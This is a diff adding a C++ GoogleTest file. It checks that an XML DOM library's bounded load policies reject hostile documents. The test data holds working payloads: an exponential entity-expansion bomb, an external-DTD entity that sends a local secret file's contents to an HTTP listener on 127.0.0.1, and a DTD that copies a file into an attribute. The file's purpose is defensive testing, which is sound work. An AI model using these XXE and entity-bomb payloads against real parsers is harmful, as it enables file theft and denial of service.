@@ -1,0 +1,282 @@
+// Load policies: hostile and broken input under each policy, documents the
+// bounded policies must load as the lenient one does, and where the policy
+// comes from.
+#include <gtest/gtest.h>
+
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <pthread.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <string>
+
+#include "dom_test_util.h"
+#include "test_files.h"
+
+namespace {
+
+std::string repeat(const std::string& text, int count) {
+    std::string out;
+    for (int i = 0; i < count; ++i) out += text;
+    return out;
+}
+
+std::string nested(int depth, const std::string& inner) {
+    return repeat("<e>", depth) + inner + repeat("</e>", depth);
+}
+
+// Ten times more text per level: 7 levels are 40 million characters.
+std::string expandingEntities() {
+    std::string dtd = "<!ENTITY e0 \"lol\">";
+    for (int level = 1; level <= 7; ++level)
+        dtd += "<!ENTITY e" + std::to_string(level) + " \"" +
+               repeat("&e" + std::to_string(level - 1) + ";", 10) + "\">";
+    return "<!DOCTYPE a [" + dtd + "]><a>&e7;</a>";
+}
+
+// A listening socket on 127.0.0.1 that no one may connect to.
+class Listener {
+public:
+    Listener() : m_fd(::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)) {
+        sockaddr_in address{};
+        address.sin_family = AF_INET;
+        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+        socklen_t size = sizeof address;
+        if (::bind(m_fd, reinterpret_cast<sockaddr*>(&address), size) != 0 || ::listen(m_fd, 4) != 0 ||
+            ::getsockname(m_fd, reinterpret_cast<sockaddr*>(&address), &size) != 0)
+            ADD_FAILURE() << "no listening socket";
+        m_port = ntohs(address.sin_port);
+    }
+    ~Listener() { ::close(m_fd); }
+    int port() const { return m_port; }
+    bool connected() const {
+        const int peer = ::accept(m_fd, nullptr, nullptr);
+        if (peer >= 0) ::close(peer);
+        return peer >= 0;
+    }
+
+private:
+    int m_fd;
+    int m_port = 0;
+};
+
+// Files the hostile documents point at, beside them in a folder that is not
+// the working directory.
+class HostileFiles {
+public:
+    HostileFiles() {
+        writeBytes(m_dir.file("secret.txt"), "s3cret");
+        writeBytes(m_dir.file("ext.dtd"),
+                   "<!ENTITY % f SYSTEM 'secret.txt'>\n<!ENTITY % d \"<!ATTLIST a k CDATA '%f;'>\">\n%d;\n");
+        writeBytes(m_dir.file("network.dtd"),
+                   "<!ENTITY % f SYSTEM 'secret.txt'><!ENTITY % d \"<!ENTITY &#x25; send SYSTEM "
+                   "'http://127.0.0.1:" +
+                       std::to_string(m_listener.port()) + "/?%f;'>\">%d;%send;");
+        ::mkfifo(m_dir.file("fifo").c_str(), 0600);
+    }
+    // `xml` written to a file of the folder; its name.
+    std::string file(const std::string& name, const std::string& xml) const {
+        writeBytes(m_dir.file(name), xml);
+        return m_dir.file(name);
+    }
+    const Listener& listener() const { return m_listener; }
+    int port() const { return m_listener.port(); }
+
+private:
+    TempDir m_dir;
+    Listener m_listener;
+};
+
+const char* const kDoctype = "a document type declaration, which this load policy does not accept";
+const char* const kOutside = "is outside the text, and this load policy reads nothing outside it";
+// Hostile rows that the lenient policy would take minutes, gigabytes or for
+// ever over; a row run under it expects what it expects under Strict.
+const char* const kNotRun = "(not run)";
+
+struct HostileCase {
+    const char* name;
+    std::string (*document)(const HostileFiles&);  // text, or "@" and a file name
+    bool lenient;                                  // run under Lenient too
+    // Per policy: "" loads, otherwise a part of the message.
+    std::string strict, selfContained, untrusted;
+};
+
+const HostileCase kHostile[] = {
+    {"EntitiesExpandingTenTimesPerLevel", [](const HostileFiles&) { return expandingEntities(); }, false,
+     "LibXML 345: line 1, column 426: parser has encountered more than '10107' entity expansions in the "
+     "document; this is the limit imposed by the application",
+     "entity expansions", kDoctype},
+    {"OneLargeEntityTenThousandTimes",
+     [](const HostileFiles&) {
+         return "<!DOCTYPE a [<!ENTITY big '" + std::string(100000, 'x') + "'>]><a>" +
+                repeat("&big;", 10000) + "</a>";
+     },
+     false, "takes more than 20 MB of memory to load", "takes more than 20 MB", kDoctype},
+    {"ExternalDtdSendingAFileToTheNetwork",
+     [](const HostileFiles& f) { return "@" + f.file("n.xml", "<!DOCTYPE a SYSTEM 'network.dtd'><a/>"); },
+     false, kNotRun, "\"network.dtd\" " + std::string(kOutside), kDoctype},
+    {"ExternalDtdDefaultingAnAttributeToAFile",
+     [](const HostileFiles& f) { return "@" + f.file("d.xml", "<!DOCTYPE a SYSTEM 'ext.dtd'><a/>"); }, true,
+     "", "line 1, column 30: \"ext.dtd\" " + std::string(kOutside), kDoctype},
+    {"ExternalEntityThatIsAFifo",
+     [](const HostileFiles& f) {
+         return "@" + f.file("f.xml", "<!DOCTYPE a [<!ENTITY e SYSTEM 'fifo'>]><a>&e;</a>");
+     },
+     false, "line 1, column 47: \"fifo\" is not a regular file", "\"fifo\" " + std::string(kOutside),
+     kDoctype},
+    {"UnclosedElement", [](const HostileFiles&) { return std::string("<a><b></a>"); }, true,
+     "LibXML 345: line 1, column 9: expected end of tag 'b'", "expected end of tag 'b'",
+     "expected end of tag 'b'"},
+    {"UndefinedEntity", [](const HostileFiles&) { return std::string("<a>&foo;</a>"); }, true,
+     "LibXML 345: line 1, column 9: entity 'foo' not found", "entity 'foo' not found",
+     "entity 'foo' not found"},
+    {"DocumentCutInHalf", [](const HostileFiles&) { return std::string("<r><a>1</a><b>2</b><c"); }, true,
+     "LibXML 345: line 1, column 22: unexpected end of input", "unexpected end of input",
+     "unexpected end of input"},
+    {"ZeroByteInAFile",
+     [](const HostileFiles& f) { return "@" + f.file("z.xml", std::string("<a>x\0y</a>", 10)); }, false,
+     "z.xml\", line 1, column 6: invalid character 0x0", "invalid character 0x0", "invalid character 0x0"},
+    {"NestedOneLevelTooDeep", [](const HostileFiles&) { return nested(nqDomUntrustedDepthLimit + 1, ""); },
+     true, "", "", "LibXML 345: line 1, column 772: elements nested deeper than 256 levels"},
+    {"EmptyElementOneLevelTooDeep",
+     [](const HostileFiles&) {
+         return "<r>" + repeat("<e/>", 3) + nested(nqDomUntrustedDepthLimit - 1, "<e/>") + "</r>";
+     },
+     true, "", "", "elements nested deeper than 256 levels"},
+};
+
+class Hostile : public ::testing::TestWithParam<HostileCase> {};
+
+// A load that expands or blocks ends the process instead of passing.
+class Watchdog {
+public:
+    Watchdog() { ::alarm(60); }
+    ~Watchdog() { ::alarm(0); }
+};
+
+TEST_P(Hostile, FailsWithAMessageUnderEachBoundedPolicy) {
+    const HostileCase& row = GetParam();
+    HostileFiles files;
+    const std::string document = row.document(files);
+    const struct {
+        NqDomLoadPolicy policy;
+        std::string expected;
+    } runs[] = {{NqDomLoadLenient, row.lenient ? row.strict : kNotRun},
+                {NqDomLoadStrict, row.strict},
+                {NqDomLoadSelfContained, row.selfContained},
+                {NqDomLoadUntrusted, row.untrusted}};
+    for (const auto& run : runs) {
+        if (run.expected == kNotRun) continue;
+        SCOPED_TRACE(run.policy);
+        NqDom dom;
+        dom.setLoadPolicy(run.policy);
+        const Watchdog watchdog;
+        const bool loaded = document[0] == '@' ? dom.loadFile(document.substr(1).c_str())
+                                               : dom.loadXML(NqbString(document.c_str()));
+        if (run.policy == NqDomLoadLenient || run.expected.empty()) {
+            EXPECT_TRUE(loaded) << str(dom.getErrorMessage());
+            continue;
+        }
+        EXPECT_FALSE(loaded);
+        EXPECT_TRUE(dom.getRoot().null());
+        EXPECT_NE(str(dom.getErrorMessage()).find(run.expected), std::string::npos)
+            << str(dom.getErrorMessage());
+    }
+    EXPECT_FALSE(files.listener().connected()) << "a bounded policy reached the network";
+}
+
+INSTANTIATE_TEST_SUITE_P(LoadPolicy, Hostile, ::testing::ValuesIn(kHostile),
+                         [](const auto& info) { return std::string(info.param.name); });
+
+TEST(LoadPolicy, StrictReadsExternalDtdsBesideTheFile) {
+    HostileFiles files;
+    NqDom dom;
+    dom.setLoadPolicy(NqDomLoadStrict);
+    ASSERT_TRUE(dom.loadFile(files.file("d.xml", "<!DOCTYPE a SYSTEM 'ext.dtd'><a/>").c_str()))
+        << str(dom.getErrorMessage());
+    EXPECT_EQ(str(dom.getRoot().getAttributeValue("k")), "s3cret");
+}
+
+// Internal subsets, defaults, internal entities, comments, instructions and
+// CDATA: the bounded policies build the very document Lenient builds.
+TEST(LoadPolicy, SelfContainedDocumentsLoadAsUnderLenient) {
+    const char* const documents[] = {
+        "<!DOCTYPE a [<!ENTITY e 'h&#233;'><!ATTLIST a d CDATA 'dflt'>]><a>x&e;y<b d='set'/></a>",
+        "<?xml version='1.0' encoding='ISO-8859-1'?><!-- c --><a x:k='1' xmlns:x='u'><?pi "
+        "d?><![CDATA[<&>]]>\xe9</a>",
+        "\xef\xbb\xbf<a>\r\n  <b>t</b>\r\n</a>",
+    };
+    for (const char* text : documents) {
+        NqDom lenient;
+        ASSERT_TRUE(lenient.loadXML(text));
+        for (NqDomLoadPolicy policy : {NqDomLoadStrict, NqDomLoadSelfContained}) {
+            NqDom bounded;
+            bounded.setLoadPolicy(policy);
+            ASSERT_TRUE(bounded.loadXML(text)) << str(bounded.getErrorMessage());
+            EXPECT_EQ(str(bounded.createXML(true)), str(lenient.createXML(true))) << text;
+        }
+    }
+}
+
+TEST(LoadPolicy, NewHandlesAndSerializersTakeTheDefaultWhenMade) {
+    EXPECT_EQ(nqDomGetDefaultLoadPolicy(), NqDomLoadLenient);
+    TempDir dir;
+    const std::string cut = dir.file("cut.xml");
+    writeBytes(cut,
+               "<norquilldocument class='config' version='1'><entries><entry name='a'><value>1</value>"
+               "</entry><entry name='b'><val");
+
+    nqDomSetDefaultLoadPolicy(NqDomLoadStrict);
+    NqDom strict;
+    NqbConfSerializer* serializer = nqDomGetInterface("NqbConfSerializer");
+    nqDomSetDefaultLoadPolicy(static_cast<NqDomLoadPolicy>(7));
+    EXPECT_EQ(nqDomGetDefaultLoadPolicy(), NqDomLoadStrict) << "an unknown policy is ignored";
+    nqDomSetDefaultLoadPolicy(NqDomLoadLenient);
+
+    EXPECT_EQ(strict.getLoadPolicy(), NqDomLoadStrict);
+    EXPECT_EQ(NqDom().getLoadPolicy(), NqDomLoadLenient);
+    EXPECT_FALSE(serializer->read(cut.c_str()));
+    EXPECT_EQ(str(serializer->getErrorMessage()),
+              "LibXML 346: file \"" + cut + "\", line 1, column 115: unexpected end of input");
+    serializer->release();
+
+    NqbConfSerializer* lenient = nqDomGetInterface("NqbConfSerializer");
+    EXPECT_TRUE(lenient->read(cut.c_str())) << "a cut file still reads under Lenient";
+    lenient->release();
+
+    // Copies share the document and so its policy.
+    NqDom copy(strict);
+    copy.setLoadPolicy(NqDomLoadUntrusted);
+    EXPECT_EQ(strict.getLoadPolicy(), NqDomLoadUntrusted);
+    EXPECT_EQ(strict.getTemplate("<!DOCTYPE a><a>${v}</a>"), nullptr);
+    EXPECT_EQ(str(strict.getErrorMessage()), std::string("LibXML 345: line 1, column 10: ") + kDoctype);
+}
+
+// What Untrusted accepts is written and compiled on a 1 MB stack.
+void* writeAndCompileDeepest(void* result) {
+    const std::string text = nested(nqDomUntrustedDepthLimit - 1, "<v k='${key}'>${value}</v>");
+    NqDom dom;
+    dom.setLoadPolicy(NqDomLoadUntrusted);
+    bool done = dom.loadXML(text.c_str()) && !dom.createXML(false).isNull() && !dom.createXML(true).isNull();
+    NqDomTemplate* compiled = dom.getTemplate(text.c_str());
+    done = done && compiled && compiled->getVariableCount() == 2;
+    if (compiled) compiled->release();
+    *static_cast<bool*>(result) = done;
+    return nullptr;
+}
+
+TEST(LoadPolicy, UntrustedDocumentsAreWrittenAndCompiledOnAOneMegabyteStack) {
+    pthread_attr_t attributes;
+    pthread_attr_init(&attributes);
+    ASSERT_EQ(pthread_attr_setstacksize(&attributes, 1 << 20), 0);
+    bool done = false;
+    pthread_t thread;
+    ASSERT_EQ(pthread_create(&thread, &attributes, writeAndCompileDeepest, &done), 0);
+    pthread_join(thread, nullptr);
+    pthread_attr_destroy(&attributes);
+    EXPECT_TRUE(done);
+}
+
+}  // namespace
